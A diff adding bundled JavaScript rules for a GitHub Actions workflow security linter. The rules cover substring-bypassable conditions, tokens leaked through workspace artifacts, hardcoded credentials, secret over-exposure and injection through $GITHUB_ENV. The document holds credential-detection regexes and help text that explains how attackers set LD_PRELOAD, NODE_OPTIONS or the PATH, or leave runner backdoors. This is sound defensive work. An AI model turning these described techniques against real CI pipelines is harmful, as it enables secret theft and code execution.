+    for (const c of childrenOf(node))
+        unsound_contains_unsound(c, out);
+    return out;
+}
+const unsound_contains_rule = {
+    id: 'PG208',
+    name: 'unsound-contains',
+    level: 'error',
+    description: 'A condition `contains(\'<string>\', <context>)` that tests membership in a list written as one string, so any substring passes (zizmor\'s unsound-contains).',
+    help: 'With a string as its first argument, `contains` tests for a substring: `contains(\'refs/heads/main refs/heads/develop\', github.ref)` is also true for a branch named `main` or `heads/dev`, which a contributor can create. Test against an array instead: `contains(fromJSON(\'["refs/heads/main", "refs/heads/develop"]\'), github.ref)`, or compare with `==`. Contexts no contributor controls (such as `runner.name`) are reported as notes.',
+    create(context) {
+        return {
+            jobPre(job, workflow) {
+                if (job.uses)
+                    return;
+                for (const { key, tree } of jobConditions(job)) {
+                    for (const needle of unsound_contains_unsound(tree, [])) {
+                        const path = contextPath(needle) ?? '';
+                        const controllable = CONTROLLABLE.some((c) => path === c || path.startsWith(`${c}.`));
+                        const name = contextText(needle);
+                        context.report(workflow.file, key, `contains(…) with a string tests for a substring, so this condition can be bypassed ${controllable ? 'by anyone who controls' : 'when something else controls'} '${name}'; test against an array: contains(fromJSON('["a", "b"]'), ${name})`, controllable ? undefined : 'note');
+                    }
+                }
+            }
+        };
+    }
+};
+/* harmony default export */ const unsound_contains = (unsound_contains_rule);
+
+;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/injection/artipacked.js
+/** PG215 artipacked: a checkout that keeps its token in `.git/config`, then an artifact of the workspace. */
+
+/** The patterns of an upload's `path:` that take the whole workspace (zizmor's dangerous_artifact_patterns). */
+function workspacePatterns(path) {
+    return path
+        .split('\n')
+        .map((l) => l.trim())
+        .filter((l) => l && !l.startsWith('#'))
+        .filter((l) => ['.', './', '..', '../'].includes(l) || (/^\$\{\{.*\}\}$/s.test(l) && l.includes('github.workspace')));
+}
+function artipacked_action(step, name) {
+    const uses = step.uses?.value.toLowerCase() ?? '';
+    return uses.startsWith(`${name}@`) || uses === name;
+}
+/** True for a checkout that leaves its credentials in the workspace (no persist-credentials: false). */
+function persists(step) {
+    if (!artipacked_action(step, 'actions/checkout'))
+        return false;
+    const v = step.with.get('persist-credentials')?.value;
+    // `true` is a choice made on purpose, and an expression cannot be judged: zizmor leaves both to its auditor and pedantic personas.
+    return v === undefined;
+}
+/** v6 and later keep the credentials under $RUNNER_TEMP, out of the workspace (a tag such as v6 or v6.1.0 says so). */
+function v6OrLater(step) {
+    const m = /@v(\d+)/i.exec(step.uses?.value ?? '');
+    return !!m && Number(m[1]) >= 6;
+}
+const artipacked_rule = {
+    id: 'PG215',
+    name: 'artipacked',
+    level: 'error',
+    description: 'An `actions/checkout` without `persist-credentials: false` followed by an `actions/upload-artifact` of the whole workspace, which publishes the token the checkout stored (zizmor\'s artipacked).',
+    help: '`actions/checkout` (before v6) writes the job\'s token into `.git/config` in the workspace, so that later `git push` works. Uploading the workspace (`path: .`, or `${{ github.workspace }}`) as an artifact then publishes that token to anyone who can download the run\'s artifacts, which for a public repository is everyone. Set `with: { persist-credentials: false }` on the checkout (and pass a token only to the step that pushes), and upload only the files you need. A checkout without `persist-credentials: false` and no such upload is not reported (zizmor reports it with low confidence); v6 and later, which keep the token outside the workspace, are reported as a warning.',
+    create(context) {
+        const check = (file, steps) => {
+            const uploads = steps.filter((s) => {
+                const path = s.with.get('path')?.value;
+                const text = path && (0,dist/* isString */.Kg)(path) ? path.value : path && (0,dist/* isBasicExpression */.hR)(path) ? path.toDisplayString() : '';
+                return artipacked_action(s, 'actions/upload-artifact') && workspacePatterns(text).length > 0;
+            });
+            for (const checkout of steps.filter(persists)) {
+                const upload = uploads.find((u) => u.index > checkout.index);
+                if (!upload)
+                    continue;
+                const uses = checkout.uses?.value ?? 'actions/checkout';
+                context.report(file, checkout, `${uses} keeps the job's token in the workspace (no persist-credentials: false), and step ${upload.index + 1} uploads the workspace as an artifact that anyone who can read the run can download; set persist-credentials: false`, v6OrLater(checkout) ? 'warning' : undefined);
+            }
+        };
+        return {
+            jobPre(job, workflow) {
+                check(workflow.file, job.steps);
+            },
+            actionPre(action) {
+                check(action.file, action.steps);
+            }
+        };
+    }
+};
+/* harmony default export */ const artipacked = (artipacked_rule);
+
+;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/injection/index.js
+
+
+
+
+
+
+
+
+const injection_family = {
+    name: 'injection',
+    title: 'Injection and triggers',
+    description: 'Untrusted data reaching code: expressions expanded in scripts, untrusted checkouts under privileged triggers, the privileged triggers themselves, spoofable bot and substring conditions.',
+    rules: [
+        untrusted_input_in_script,
+        untrusted_checkout,
+        unsound_condition,
+        obfuscation,
+        dangerous_triggers,
+        bot_conditions,
+        unsound_contains,
+        artipacked
+    ]
+};
+/* harmony default export */ const injection = (injection_family);
+
+;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/permissions/missing-permissions.js
+/** PG202 missing-permissions: jobs left with the default `GITHUB_TOKEN` permissions, and `write-all`. */
+
+function writeAll(token) {
+    if (!token || !(0,dist/* isString */.Kg)(token) || token.value.trim() !== 'write-all')
+        return undefined;
+    return { at: token.range ? { line: token.range.start.line, column: token.range.start.column } : { line: 1, column: 1 } };
+}
+const missing_permissions_rule = {
+    id: 'PG202',
+    name: 'missing-permissions',
+    level: 'warning',
+    description: 'A job with no `permissions:` in a workflow with none at the top, or `permissions: write-all` anywhere.',
+    help: 'Without `permissions:`, the `GITHUB_TOKEN` gets the repository\'s default, which on older repositories and organizations is read and write on everything; any compromised step can then push code, create releases or approve pull requests. Declare the least the workflow needs at the top (`permissions: { contents: read }`, or `{}`) and widen per job where a job needs more. `write-all` grants every scope: list the scopes instead. Workflows triggered only by `workflow_call` take their permissions from the caller and are not checked for a missing key.',
+    create(context) {
+        return {
+            workflowPre(workflow) {
+                const top = workflow.permissions;
+                const all = writeAll(top?.value);
+                if (all)
+                    context.report(workflow.file, all, 'permissions: write-all grants the token every scope; list only the scopes the workflow needs', 'error');
+                if (top)
+                    return;
+                if (workflow.on.size > 0 && [...workflow.on.keys()].every((k) => k === 'workflow_call'))
+                    return;
+                for (const job of workflow.jobs) {
+                    if (job.permissions)
+                        continue;
+                    context.report(workflow.file, job.id, `job "${job.id.value}" has no permissions: and the workflow sets none, so its token gets the repository default (possibly write on everything); set permissions: at the top of the workflow (e.g. contents: read) or on the job`);
+                }
+            },
+            jobPre(job, workflow) {
+                const all = writeAll(job.permissions);
+                if (all)
+                    context.report(workflow.file, all, `job "${job.id.value}" has permissions: write-all, which grants the token every scope; list only the scopes the job needs`, 'error');
+            }
+        };
+    }
+};
+/* harmony default export */ const missing_permissions = (missing_permissions_rule);
+
+;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/permissions/hardcoded-secret.js
+/** PG204 hardcoded-secret: credentials written into a workflow or action file. */
+
+/** Credentials recognisable by their shape; the message names the kind, never the value. */
+const KINDS = [
+    { kind: 'an AWS access key id', re: /\b(?:AKIA|ASIA)[0-9A-Z]{16}\b/g },
+    { kind: 'a GitHub token', re: /\bgh[opsu]_[A-Za-z0-9]{36,}\b/g },
+    { kind: 'a GitHub fine-grained token', re: /\bgithub_pat_[A-Za-z0-9_]{22,}\b/g },
+    { kind: 'a private key', re: /-----BEGIN (?:[A-Z]+ )*PRIVATE KEY(?: BLOCK)?-----/g },
+    { kind: 'a Slack token', re: /\bxox[abposr]-[A-Za-z0-9-]{10,}\b/g },
+    { kind: 'a Slack webhook URL', re: /https:\/\/hooks\.slack\.com\/services\/T[A-Za-z0-9]+\/B[A-Za-z0-9]+\/[A-Za-z0-9]+/g }
+];
+/** Keys whose value is a credential: `*_KEY`, `*_TOKEN`, `*_SECRET` (or `-key`, …) and `*PASSWORD*`. */
+const SECRET_KEY = /(?:^|[_-])(?:key|token|secret)$|password|passwd/i;
+/** Shannon entropy in bits per character. */
+function entropy(s) {
+    const counts = new Map();
+    for (const c of s)
+        counts.set(c, (counts.get(c) ?? 0) + 1);
+    let bits = 0;
+    for (const n of counts.values())
+        bits -= (n / s.length) * Math.log2(n / s.length);
+    return bits;
+}
+/** A literal that looks generated rather than written: long, no spaces, mixed letters and digits, high entropy. */
+function highEntropy(value) {
+    const v = value.trim();
+    if (v.length < 16 || /\s/.test(v) || v.includes('${{'))
+        return false;
+    if (!/[A-Za-z]/.test(v) || !/\d/.test(v))
+        return false;
+    return entropy(v) >= 3.5;
+}
+function lineColumn(text, offset) {
+    const before = text.slice(0, offset);
+    const line = before.split('\n').length;
+    return { line, column: offset - before.lastIndexOf('\n') };
+}
+const hardcoded_secret_rule = {
+    id: 'PG204',
+    name: 'hardcoded-secret',
+    level: 'error',
+    description: 'A credential written into the file: AWS access key ids, GitHub tokens, private keys, Slack tokens, or a high-entropy literal assigned to a `*_KEY`, `*_TOKEN`, `*_SECRET` or `*PASSWORD*` key.',
+    help: 'Everything in a workflow file is readable by everyone who can read the repository, forever (in its history too), and is not masked in logs. Revoke the credential, remove it, and pass it as a secret (`${{ secrets.NAME }}`) or, better, use OIDC (`aws-actions/configure-aws-credentials` with `role-to-assume`). Literal values of secret-named keys are reported when they look generated (16 characters or more, letters and digits, high entropy); expressions are never reported. The finding names the kind and the key, never the value.',
+    create(context) {
+        return {
+            file(parsed) {
+                const text = parsed.source.text ?? '';
+                const shaped = new Set();
+                for (const { kind, re } of KINDS) {
+                    for (const m of text.matchAll(re)) {
+                        const at = lineColumn(text, m.index ?? 0);
+                        shaped.add(at.line);
+                        context.report(parsed.source, { at }, `${kind} is written into the file; revoke it and pass it as a secret (secrets.NAME) instead`);
+                    }
+                }
+                if (!parsed.model)
+                    return;
+                const visit = (token, where) => {
+                    if ((0,dist/* isSequence */.wZ)(token)) {
+                        let i = 0;
+                        for (const item of token)
+                            visit(item, `${where}[${i++}]`);
+                        return;
+                    }
+                    if (!(0,dist/* isMapping */.pi)(token))
+                        return;
+                    for (const pair of token) {
+                        if (!(0,dist/* isString */.Kg)(pair.key))
+                            continue;
+                        const key = pair.key.value;
+                        const value = pair.value;
+                        if ((0,dist/* isString */.Kg)(value) && SECRET_KEY.test(key) && highEntropy(value.value)) {
+                            const at = value.range ? { line: value.range.start.line, column: value.range.start.column } : { line: 1, column: 1 };
+                            if (!shaped.has(at.line))
+                                context.report(parsed.source, { at }, `"${where ? `${where}.` : ''}${key}" is assigned a literal high-entropy value that looks like a credential; pass it as a secret (secrets.NAME) instead`);
+                        }
+                        else
+                            visit(value, where ? `${where}.${key}` : key);
+                    }
+                };
+                visit(parsed.model.root, '');
+            }
+        };
+    }
+};
+/* harmony default export */ const hardcoded_secret = (hardcoded_secret_rule);
+
+;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/permissions/anonymous-definition.js
+
+const anonymous_definition_rule = {
+    id: 'PG226',
+    name: 'anonymous-definition',
+    level: 'note',
+    optIn: true,
+    description: 'A workflow without `name:`, or a job with steps without `name:` (opt-in: off unless `.github/phase-gates.yml` gives it a level).',
+    help: 'Without `name:`, GitHub shows a workflow by its file path and a job by its id in the Actions tab, in required status checks and in notifications, which makes runs harder to tell apart and to audit. Give each workflow and job a short `name:`. Same as zizmor\'s pedantic anonymous-definition audit, so off by default: enable it with `rules: { anonymous-definition: note }`.',
+    create(context) {
+        return {
+            workflowPre(workflow) {
+                if (!workflow.name)
+                    context.report(workflow.file, { at: posOf(workflow.root) }, 'this workflow has no name:, so GitHub shows it by its file path; add name: at the top');
+            },
+            jobPre(job, workflow) {
+                if (!job.name && !job.uses)
+                    context.report(workflow.file, job.id, `job "${job.id.value}" has no name:, so GitHub shows it by its id; add name:`);
+            }
+        };
+    }
+};
+/* harmony default export */ const anonymous_definition = (anonymous_definition_rule);
+
+;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/permissions/undocumented-permissions.js
+/** PG227 undocumented-permissions (opt-in): `permissions:` scopes without a comment saying why. */
+
+
+
+/** The scopes of a `permissions:` mapping with no comment on their line (`contents: read` needs none). */
+function undocumented(token, file) {
+    if (!token || !(0,dist/* isMapping */.pi)(token))
+        return [];
+    const lines = file.text.split('\n');
+    const out = [];
+    for (const pair of token) {
+        if (!(0,dist/* isString */.Kg)(pair.key))
+            continue;
+        const value = (0,dist/* isString */.Kg)(pair.value) ? pair.value.value.trim() : '';
+        if (pair.key.value === 'contents' && value === 'read')
+            continue;
+        const at = posOf(pair.key);
+        const comment = /\s#(.*)$/.exec(lines[at.line - 1] ?? '');
+        if (!comment || !comment[1].trim())
+            out.push({ value: pair.key.value, at });
+    }
+    return out;
+}
+const undocumented_permissions_rule = {
+    id: 'PG227',
+    name: 'undocumented-permissions',
+    level: 'note',
+    optIn: true,
+    description: 'Scopes of a `permissions:` block (other than `contents: read`) without a comment on their line saying why the workflow needs them (opt-in).',
+    help: 'A scope such as `issues: write` or `id-token: write` is easy to add and hard to remove later, when nobody remembers which step needed it. A comment on its line (`packages: write # push the image to ghcr.io`) lets reviewers check it still holds. Same as zizmor\'s pedantic undocumented-permissions audit (one finding a block, at its first undocumented scope), so off by default: enable it with `rules: { undocumented-permissions: note }`.',
+    create(context) {
+        const check = (file, token, where) => {
+            const scopes = undocumented(token, file);
+            if (scopes.length)
+                context.report(file, scopes[0], `${where} permissions ${nameList(scopes.map((s) => s.value))} have no comment saying why they are needed; add one on each line (e.g. packages: write # push the image)`);
+        };
+        return {
+            workflowPre(workflow) {
+                check(workflow.file, workflow.permissions?.value, 'the workflow\'s');
+            },
+            jobPre(job, workflow) {
+                check(workflow.file, job.permissions, `job "${job.id.value}"'s`);
+            }
+        };
+    }
+};
+/* harmony default export */ const undocumented_permissions = (undocumented_permissions_rule);
+
+;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/permissions/insecure-commands.js
+/** PG209 insecure-commands: `ACTIONS_ALLOW_UNSECURE_COMMANDS` re-enables `set-env` and `add-path`. */
+
+
+/** True when an `env:` mapping sets ACTIONS_ALLOW_UNSECURE_COMMANDS to true (as the runner reads a boolean). */
+function enables(env) {
+    const v = expr_tree_valueOf(env, 'ACTIONS_ALLOW_UNSECURE_COMMANDS');
+    if (!v)
+        return false;
+    if ((0,dist/* isBoolean */.Lm)(v))
+        return v.value;
+    return (0,dist/* isString */.Kg)(v) && v.value.trim().toLowerCase() === 'true';
+}
+const insecure_commands_rule = {
+    id: 'PG209',
+    name: 'insecure-commands',
+    level: 'error',
+    description: 'An `env:` that sets `ACTIONS_ALLOW_UNSECURE_COMMANDS: true`, re-enabling the `set-env` and `add-path` workflow commands (zizmor\'s insecure-commands).',
+    help: 'GitHub disabled the `::set-env::` and `::add-path::` workflow commands in 2020 because anything a step prints (a pull request title in a log line, a test\'s output) could set environment variables such as `LD_PRELOAD` or `NODE_OPTIONS` for every later step. `ACTIONS_ALLOW_UNSECURE_COMMANDS: true` turns them back on. Remove it and write to `$GITHUB_ENV` and `$GITHUB_PATH` instead. An `env:` that is one expression (`env: ${{ matrix.env }}`) may also set it; that is not reported (zizmor reports it only to auditors).',
+    create(context) {
+        const check = (file, owner, where) => {
+            const env = expr_tree_valueOf(owner, 'env');
+            const key = keyNode(owner, 'env');
+            if (key && enables(env))
+                context.report(file, key, `env: of ${where} sets ACTIONS_ALLOW_UNSECURE_COMMANDS, which re-enables the set-env and add-path commands that any printed text can use; remove it and write to $GITHUB_ENV and $GITHUB_PATH`);
+        };
+        return {
+            workflowPre(workflow) {
+                check(workflow.file, workflow.root, 'the workflow');
+                for (const job of workflow.jobs)
+                    if (!job.uses)
+                        check(workflow.file, job.token, `job "${job.id.value}"`);
+            },
+            step(step, owner, file) {
+                if (step.run)
+                    check(file.file, step.token, `step ${step.name ? `"${step.name.value}"` : step.index + 1}`);
+            }
+        };
+    }
+};
+/* harmony default export */ const insecure_commands = (insecure_commands_rule);
+
+;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/permissions/secrets-inherit.js
+
+const secrets_inherit_rule = {
+    id: 'PG210',
+    name: 'secrets-inherit',
+    level: 'warning',
+    description: 'A job that calls a reusable workflow with `secrets: inherit`, handing it every secret of the caller (zizmor\'s secrets-inherit).',
+    help: '`secrets: inherit` passes every repository, organization and environment secret the caller can see to the called workflow, whatever it needs; a called workflow that is compromised, or changed on the ref the caller follows, gets them all. Pass the secrets it declares by name: `secrets: { token: ${{ secrets.DEPLOY_TOKEN }} }`.',
+    create(context) {
+        return {
+            jobPre(job, workflow) {
+                // A workflow of the same repository (./… or $/…) is code these secrets already trust.
+                if (job.secrets !== 'inherit' || !job.uses || isLocalUses(job.uses.value))
+                    return;
+                context.report(workflow.file, job.uses, `job "${job.id.value}" calls ${job.uses.value} with secrets: inherit, which hands it every secret of this workflow; pass the secrets it needs by name under secrets:`);
+            }
+        };
+    }
+};
+/* harmony default export */ const secrets_inherit = (secrets_inherit_rule);
+
+;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/permissions/overprovisioned-secrets.js
+
+
+/** The places in an expression that expand the whole `secrets` context (zizmor's secrets_expansions). */
+function secretsExpansions(e) {
+    return countMatches(e, (node) => (callName(node) === 'tojson' && childrenOf(node).some((a) => contextPath(a) === 'secrets')) ||
+        (node instanceof ast/* IndexAccess */.p_ && contextPath(node.expr) === 'secrets' && !(ungroup(node.index) instanceof ast/* Literal */.uS)));
+}
+const overprovisioned_secrets_rule = {
+    id: 'PG211',
+    name: 'overprovisioned-secrets',
+    level: 'warning',
+    description: 'An expression that expands the whole `secrets` context into the job: `toJSON(secrets)` or `secrets[<computed name>]` (zizmor\'s overprovisioned-secrets).',
+    help: 'GitHub gives a job only the secrets its expressions name. `toJSON(secrets)`, or an index computed at run time (`secrets[format(\'TOKEN_{0}\', matrix.env)]`), names all of them, so every secret of the repository and organization reaches the runner and any compromised step can read them. Name each secret the job needs (`secrets.DEPLOY_TOKEN`), or pick among named ones with a condition.',
+    create(context) {
+        return perFencedExpression(context, secretsExpansions, (text) => `${text} injects the entire secrets context into the runner; name only the secrets the job needs (secrets.NAME)`);
+    }
+};
+/* harmony default export */ const overprovisioned_secrets = (overprovisioned_secrets_rule);
+
+;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/permissions/unredacted-secrets.js
+
+/** The `fromJSON(<secret>)` calls of an expression (zizmor's secret_leakages). */
+function secretLeakages(e) {
+    return countMatches(e, (node) => callName(node) === 'fromjson' && childrenOf(node).some((a) => /^secrets(\.|$)/.test(contextPath(a) ?? '')));
+}
+const unredacted_secrets_rule = {
+    id: 'PG212',
+    name: 'unredacted-secrets',
+    level: 'warning',
+    description: 'A secret parsed with `fromJSON(secrets.X)`, whose fields GitHub does not mask in logs (zizmor\'s unredacted-secrets).',
+    help: 'The runner masks a secret\'s exact value in logs. A secret holding JSON and taken apart with `fromJSON(secrets.X).field` yields fields that were never registered as secrets, so they print in clear. Store each value as its own secret, or register the field with `::add-mask::` before it can be printed.',
+    create(context) {
+        return perFencedExpression(context, secretLeakages, (text) => `${text} parses a secret with fromJSON, and the values it yields are not redacted in logs; store each value as its own secret`);
+    }
+};
+/* harmony default export */ const unredacted_secrets = (unredacted_secrets_rule);
+
+;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/permissions/self-hosted-runner.js
+/** PG213 self-hosted-runner: a job that runs, or may run, on a self-hosted runner. */
+
+
+function self_hosted_runner_text(t) {
+    if (!t)
+        return undefined;
+    if ((0,dist/* isBasicExpression */.hR)(t))
+        return t.toDisplayString();
+    return (0,dist/* isLiteral */.c$)(t) ? t.toString() : undefined;
+}
+function texts(t) {
+    if (t && (0,dist/* isSequence */.wZ)(t)) {
+        const out = [];
+        for (const item of t) {
+            const s = self_hosted_runner_text(item);
+            if (s !== undefined)
+                out.push(s);
+        }
+        return out;
+    }
+    const s = self_hosted_runner_text(t);
+    return s === undefined ? [] : [s];
+}
+/** The values a `${{ matrix.<key> }}` can take: the key's list and `include:`, less what `exclude:` removes. */
+function self_hosted_runner_matrixValues(job, key) {
+    const matrix = expr_tree_valueOf(job.strategy, 'matrix');
+    if (!matrix || !(0,dist/* isMapping */.pi)(matrix))
+        return [];
+    const values = new Set(texts(expr_tree_valueOf(matrix, key)));
+    const lists = (name) => {
+        const t = expr_tree_valueOf(matrix, name);
+        return t && (0,dist/* isSequence */.wZ)(t) ? [...t] : [];
+    };
+    for (const ex of lists('exclude'))
+        for (const v of texts(expr_tree_valueOf(ex, key)))
+            values.delete(v);
+    for (const inc of lists('include'))
+        for (const v of texts(expr_tree_valueOf(inc, key)))
+            values.add(v);
+    return [...values];
+}
+/** Why a job's runs-on may pick a self-hosted runner, or undefined. */
+function selfHosted(job) {
+    const runsOn = job.runsOn;
+    if (!runsOn)
+        return undefined;
+    if ((0,dist/* isMapping */.pi)(runsOn))
+        return expr_tree_valueOf(runsOn, 'group') ? 'a runner group, which implies self-hosted runners' : undefined;
+    const whole = self_hosted_runner_text(runsOn)?.trim() ?? '';
+    if ((0,dist/* isBasicExpression */.hR)(runsOn) || ((0,dist/* isString */.Kg)(runsOn) && /^\$\{\{.*\}\}$/s.test(whole))) {
+        // The whole of runs-on is one expression: only a matrix value can be read from the workflow.
+        const m = /^\$\{\{\s*matrix\.([\w-]+)\s*\}\}$/.exec(whole);
+        return m && self_hosted_runner_matrixValues(job, m[1]).some((v) => v.includes('self-hosted')) ? `matrix.${m[1]}, whose values include self-hosted` : undefined;
+    }
+    const first = texts(runsOn)[0];
+    if (first === 'self-hosted')
+        return 'the self-hosted label';
+    if (first !== undefined && /^\$\{\{.*\}\}$/s.test(first.trim()))
+        return `${first}, an expression that may expand to a self-hosted runner`;
+    return undefined;
+}
+const self_hosted_runner_rule = {
+    id: 'PG213',
+    name: 'self-hosted-runner',
+    level: 'note',
+    description: 'A job whose `runs-on:` names a self-hosted runner (its `self-hosted` label, a runner group, or a matrix value) (zizmor\'s self-hosted-runner).',
+    help: 'A self-hosted runner that is not ephemeral keeps its disk, caches and processes from one job to the next: in a public repository, a pull request that runs on it can leave a backdoor for the jobs that follow, with their secrets. Use GitHub-hosted runners for untrusted code, or ephemeral self-hosted runners (`--ephemeral`, one job per machine). Reported as a note, since whether a runner is ephemeral cannot be read from the workflow (zizmor reports it to auditors only).',
+    create(context) {
+        return {
+            jobPre(job, workflow) {
+                if (job.uses)
+                    return;
+                const why = selfHosted(job);
+                const key = keyNode(job.token, 'runs-on');
+                if (why && key)
+                    context.report(workflow.file, key, `job "${job.id.value}" runs on ${why}; unless the runner is ephemeral, one job can leave code behind for the next, so keep untrusted code off it`);
+            }
+        };
+    }
+};
+/* harmony default export */ const self_hosted_runner = (self_hosted_runner_rule);
+
+;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/permissions/github-env.js
+/** PG214 github-env: a privileged workflow (or composite action) writes computed text to `$GITHUB_ENV` or `$GITHUB_PATH`. */
+
+
+/** Most lines of one script read (a hostile script of millions of lines stays bounded). */
+const MAX_SCRIPT_LINES = 10_000;
+/** `/bin/bash -e {0}` → `bash`, as GitHub picks the shell. */
+function github_env_shellName(shell) {
+    const first = shell.trim().split(/\s+/)[0] ?? '';
+    return (first.split(/[\\/]/).pop() ?? '').toLowerCase().replace(/\.exe$/, '');
+}
+/** True for an `echo`/`printf` argument that is literal text: no expansion, no command substitution. */
+function literalArg(arg) {
+    if (/^'[^']*'$/.test(arg))
+        return true;
+    return !/[$`]/.test(arg);
+}
+/** Splits a command into words, keeping quoted strings whole (enough to judge echo's arguments). */
+function words(command) {
+    return command.match(/'[^']*'|"(?:\\.|[^"\\])*"|(?:\\.|[^\s'"])+/g) ?? [];
+}
+/**
+ * Writes to GITHUB_ENV / GITHUB_PATH in a bash script (zizmor's tree-sitter queries, read by line):
+ * a command redirected to the file, unless it is `echo`/`printf` of literal text only, and a pipeline
+ * into `tee` of the file. Redirections of `{ …; }` groups and loops are not commands (as in zizmor).
+ */
+function bashWrites(script) {
+    const out = [];
+    const lines = script.split('\n').slice(0, MAX_SCRIPT_LINES);
+    const redirect = /(?:&?>>?|>\|)\s*("?)\$\{?(GITHUB_ENV|GITHUB_PATH)\}?\1/g;
+    lines.forEach((text, i) => {
+        const line = text.replace(/(^|\s)#.*$/, '');
+        for (const m of line.matchAll(redirect)) {
+            const before = line.slice(0, m.index).split(/;|&&|\|\||\||\$\(|\bthen\b|\bdo\b|\belse\b/).pop() ?? '';
+            const [cmd, ...args] = words(before.trim());
+            if (!cmd || /^[})]|^(done|fi|esac)$/.test(cmd))
+                continue;
+            if ((cmd === 'echo' || cmd === 'printf') && args.every(literalArg))
+                continue;
+            out.push({ destination: m[2], line: i + 1 });
+        }
+        const tee = /\|\s*tee\b[^|;&]*?\s("?)\$\{?(GITHUB_ENV|GITHUB_PATH)\}?\1/.exec(line);
+        if (tee)
+            out.push({ destination: tee[2], line: i + 1 });
+    });
+    return out;
+}
+/** Writes in a PowerShell script: redirection to `$env:GITHUB_ENV`, or Out-File/Add-Content/Set-Content/Tee-Object of it. */
+function pwshWrites(script) {
+    const out = [];
+    script.split('\n').slice(0, MAX_SCRIPT_LINES).forEach((line, i) => {
+        const m = /(?:>>?\s*"?\$env:(GITHUB_ENV|GITHUB_PATH)\b)|(?:\b(?:out-file|add-content|set-content|tee-object)\b[^|;\n]*\$env:(GITHUB_ENV|GITHUB_PATH)\b)/i.exec(line);
+        if (m)
+            out.push({ destination: (m[1] ?? m[2]).toUpperCase(), line: i + 1 });
+    });
+    return out;
+}
+/** Writes in a cmd script: `… >> %GITHUB_ENV%` (zizmor's pattern). */
+function cmdWrites(script) {
+    const out = [];
+    script.split('\n').slice(0, MAX_SCRIPT_LINES).forEach((line, i) => {
+        const m = /^.+\s*>>?\s*"?%(GITHUB_ENV|GITHUB_PATH)%"?/i.exec(line);
+        if (m)
+            out.push({ destination: m[1].toUpperCase(), line: i + 1 });
+    });
+    return out;
+}
+function shellOf(step, job, file) {
+    const defaults = (t) => expr_tree_valueOf(expr_tree_valueOf(expr_tree_valueOf(t, 'defaults'), 'run'), 'shell');
+    for (const t of [expr_tree_valueOf(step.token, 'shell'), defaults(job?.token), defaults(file.root)])
+        if (t && (0,dist/* isString */.Kg)(t))
+            return t.value;
+    return 'bash';
+}
+const github_env_rule = {
+    id: 'PG214',
+    name: 'github-env',
+    level: 'error',
+    description: 'A step of a `pull_request_target` or `workflow_run` workflow, or of a composite action, that writes computed text to `$GITHUB_ENV` or `$GITHUB_PATH` (zizmor\'s github-env).',
+    help: 'Every later step of the job reads `$GITHUB_ENV` as variables and `$GITHUB_PATH` as directories to search first. A write whose text comes from the event (a title, a branch name, an artifact of the triggering run) lets whoever wrote it set `LD_PRELOAD`, `NODE_OPTIONS`, `BASH_ENV` or put their own `git` first on the PATH, with the privileges of `pull_request_target` and `workflow_run`. Pass such values between steps as step outputs (`$GITHUB_OUTPUT`) and read them through `env:`, or validate them strictly first. `echo`/`printf` of literal text only is not reported; bash, sh, zsh, pwsh, powershell and cmd scripts are read.',
+    create(context) {
+        const check = (step, job, file) => {
+            if (!step.run)
+                return;
+            const shell = github_env_shellName(shellOf(step, job, file));
+            const writes = ['bash', 'sh', 'zsh'].includes(shell) ? bashWrites(step.run.value) : shell === 'cmd' ? cmdWrites(step.run.value) : ['pwsh', 'powershell'].includes(shell) ? pwshWrites(step.run.value) : [];
+            const key = keyNode(step.token, 'run');
+            if (!key)
+                return;
+            for (const w of writes) {
+                const where = file.kind === 'workflow' ? `a ${['pull_request_target', 'workflow_run'].filter((t) => file.on.has(t)).join('/')} workflow` : 'a composite action';
+                context.report(file.file, key, `line ${w.line} of this script writes computed text to $${w.destination} in ${where}, so whoever controls that text sets the environment or PATH of every later step; pass values as step outputs instead`);
+            }
+        };
+        return {
+            step(step, owner, file) {
+                if (file.kind === 'workflow' && !file.on.has('pull_request_target') && !file.on.has('workflow_run'))
+                    return;
+                check(step, 'id' in owner ? owner : undefined, file);
+            }
+        };
+    }
+};
+/* harmony default export */ const github_env = (github_env_rule);
+
+;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/permissions/index.js
+
+
+
+
+
+
+
+
+
+
+const permissions_family = {
+    name: 'permissions',
+    title: 'Permissions and secrets',
+    description: 'What the token may do and where secrets go.',
+    rules: [
+        missing_permissions,
+        hardcoded_secret,
+        anonymous_definition,
+        undocumented_permissions,
+        insecure_commands,
+        secrets_inherit,
+        overprovisioned_secrets,
+        unredacted_secrets,
+        self_hosted_runner,
+        github_env
+    ]
+};
+/* harmony default export */ const permissions = (permissions_family);
+
+;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/deployment/deploy-jobs.js
+/**
+ * Deploy jobs of a workflow, shared by the deployment-policy rules (PG300–PG304): which jobs
+ * deploy, to which environment, with which step, and how jobs are ordered through `needs:`.
+ *
+ * A deploy job is a job that changes a running service: one of its steps
+ * - uses our deploy action (`…/actions/deploy` under any owner and repository name, `./` or `$/`)
+ *   or the root action (`owner/phase-gates@…`, the whole Phase 06 in one step);
+ * - uses a common deploy action (cloudflare/wrangler-action, azure/webapps-deploy,
+ *   aws-actions/amazon-ecs-deploy-task-definition, google-github-actions/deploy-cloudrun, a
+ *   production Netlify/Vercel/Firebase deploy, …);
+ * - runs a deploy command (`wrangler deploy`, `flyctl deploy`, `gcloud run deploy`,
+ *   `./deploy.sh`, `make deploy`, `npm run deploy`, …);
+ * - or, in a job named for deploying (deploy, release, publish, rollout, prod) or bound to an
+ *   `environment:`, runs a generic infrastructure command (`kubectl apply`, `helm upgrade`,
+ *   `terraform apply`, …) or a remote script through an SSH action.
+ * An `environment:` alone does not make a deploy job: package publishes (trusted publishing asks
+ * for an environment), image builds, tag moves and approval-only jobs change no running service.
+ * Preview deploys (Vercel or Netlify without `--prod`, a Firebase preview channel) and dry runs
+ * are not deploys either.
+ */
+
+
+/** `owner/repo/…/actions/<name>@ref`, `./…/actions/<name>` or `$/…/actions/<name>`: our action under any repository name. */
+function ownAction(name) {
